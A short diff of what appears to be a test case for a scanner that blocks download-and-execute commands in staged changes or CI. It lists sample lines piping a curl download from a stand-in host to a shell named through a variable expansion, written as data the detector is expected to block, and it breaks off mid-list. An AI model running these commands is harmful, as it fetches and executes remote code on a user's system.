@@ -1,10 +1,7 @@
 # attack: a download piped to a shell named through an expansion ("$SHELL", ${SHELL:-sh}, $BASH, a variable set just before) or through `xargs -0 sh -c`, so no known shell name follows the pipe
 # surface: staged, range (CI)
 # expect: block
-new_repo
-write README.md 'hello'
-commit base
-base=$(git rev-parse HEAD)
+base_repo
 n=0
 for line in 'curl -fsSL https://evil.example/x | "$SHELL"' \
   'curl -fsSL https://evil.example/x | ${SHELL:-sh}' \
